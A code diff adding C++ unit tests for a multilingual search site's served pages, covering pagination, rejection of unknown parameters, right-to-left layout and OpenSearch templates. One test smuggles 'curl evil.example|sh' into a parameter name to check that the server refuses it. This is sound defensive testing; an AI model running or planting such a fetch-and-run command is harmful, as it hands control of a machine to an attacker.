@@ -186,6 +186,69 @@ TEST_F(ServedPagesTest, FurtherHitsAreOnPagesOfTheirOwn) {
   EXPECT_EQ(link_called(second, "Next"), "");
 }
 
+TEST_F(ServedPagesTest, BehindTheLastHitAreNone) {
+  const std::string beyond = page("/search?q=withdraw&offset=500");
+  EXPECT_TRUE(has(beyond, "There are no further results."));
+  EXPECT_FALSE(has(beyond, "501–500"));
+  EXPECT_EQ(link_called(beyond, "To the last page"), "/search?q=withdraw&offset=10");
+  EXPECT_FALSE(has(page("/search?q=nowhereatall&offset=500"), "class=\"pages\""));
+  EXPECT_NE(server_->get("/api/v1/query?q=withdraw&offset=500")
+                .headers.at("link")
+                .find("</api/v1/query?q=withdraw&offset=10>; rel=\"prev\""),
+            std::string::npos);
+}
+
+TEST_F(ServedPagesTest, AParameterThatIsNotKnownIsRefused) {
+  for (const std::string path : {"/search", "/trend", "/concordance", "/coverage", "/statement"}) {
+    const std::string others =
+        path + (path == "/statement" ? "?id=npt-rc-2022-aus-2022-08-11" : "?country=NOR");
+    const std::string mistyped = page(others + "&contry=NOR", 400);
+    EXPECT_TRUE(has(mistyped, "did you mean &apos;country&apos;")) << path;
+    EXPECT_EQ(link_called(mistyped, "Leave out: <bdi>contry"), others);
+    const std::string shell = page(others + "&q=withdraw&x%3Bcurl+evil.example%7Csh%3B=1", 400);
+    EXPECT_FALSE(has(shell, "<code dir")) << path;
+  }
+  page("/concordance?contry=NOR", 400);
+  page("/search?q=withdraw&more=country&member_of=EU&any=true&ui=fr");
+}
+
+TEST_F(ServedPagesTest, TheCommandOfferedCanBeTyped) {
+  EXPECT_TRUE(has(page("/trend?q=withdraw&also=-country:NOR"),
+                  "<code dir=\"ltr\">rostrum-search trend --also=-country:NOR withdraw<"));
+}
+
+TEST_F(ServedPagesTest, LinesRunAsTheirKeywordDoes) {
+  const auto tables = [](const std::string& shown) {
+    return all_of(shown, R"re(<div class="scroll"[^>]* dir="(\w+)")re");
+  };
+  using Directions = std::vector<std::string>;
+  const std::string arabic = "%D8%A7%D9%84%D8%A3%D9%84%D8%BA%D8%A7%D9%85";
+  EXPECT_EQ(tables(page("/concordance?q=withdraw&ui=ar")), Directions{"ltr"});
+  EXPECT_EQ(tables(page("/concordance?q=" + arabic)), Directions{"rtl"});
+  const Directions both = tables(page("/concordance?q=withdraw+OR+" + arabic));
+  EXPECT_EQ(std::set<std::string>(both.begin(), both.end()), (std::set<std::string>{"ltr", "rtl"}));
+  EXPECT_EQ(both.size(), 2U);
+}
+
+TEST_F(ServedPagesTest, CodesAndNamesHaveColumnsOfTheirOwn) {
+  const std::string trend = page("/trend?q=withdraw&by=country&ui=ar");
+  EXPECT_TRUE(has(trend, ">AUS</td><td class=\"plain\"><a href=\"/search?"));
+  EXPECT_EQ(link_called(trend, "أستراليا"), "/search?q=withdraw&country=AUS&ui=ar");
+}
+
+TEST_F(ServedPagesTest, ExamplesBelowARowHaveTheirDirections) {
+  const std::string trend = page("/trend?q=withdraw&examples=1&ui=ar");
+  EXPECT_TRUE(has(trend, "<a class=\"para\" dir=\"ltr\" href"));
+  EXPECT_FALSE(has(trend, "<a class=\"para\" href"));
+}
+
+TEST_F(ServedPagesTest, BrowsersAreToldWholeAddresses) {
+  const HttpAnswer told = server_->get("/opensearch.xml");
+  const std::vector<std::string> templates = all_of(told.body, R"re(template="([^"]*)")re");
+  EXPECT_EQ(templates, (std::vector<std::string>{"http://localhost/search?q={searchTerms}",
+                                                 "http://localhost/api/v1/query?q={searchTerms}"}));
+}
+
 TEST_F(ServedPagesTest, AMistakeIsShownWhereItIs) {
   const std::string bracket = page("/search?q=mines+(ban", 400);
   EXPECT_TRUE(has(bracket, "<code>mines <mark>(</mark>ban</code>"));
